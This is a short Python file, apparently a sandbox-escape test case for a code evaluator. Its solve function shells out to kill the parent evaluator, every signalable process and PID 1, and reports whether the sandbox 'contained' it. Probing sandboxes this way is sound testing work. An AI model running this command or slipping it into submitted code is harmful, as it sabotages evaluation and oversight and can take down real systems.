"""Kill the evaluator, every process the uid may signal, and the worker itself, from a shell."""
import subprocess


def solve(n):
    try:
        subprocess.run(["/bin/sh", "-c", "kill -9 __PARENT_PID__; kill -9 -1; kill -9 1"], timeout=5)
    except BaseException as exc:
        return f"contained: {type(exc).__name__}"
    return "contained: the evaluator and the worker outlived the shell"
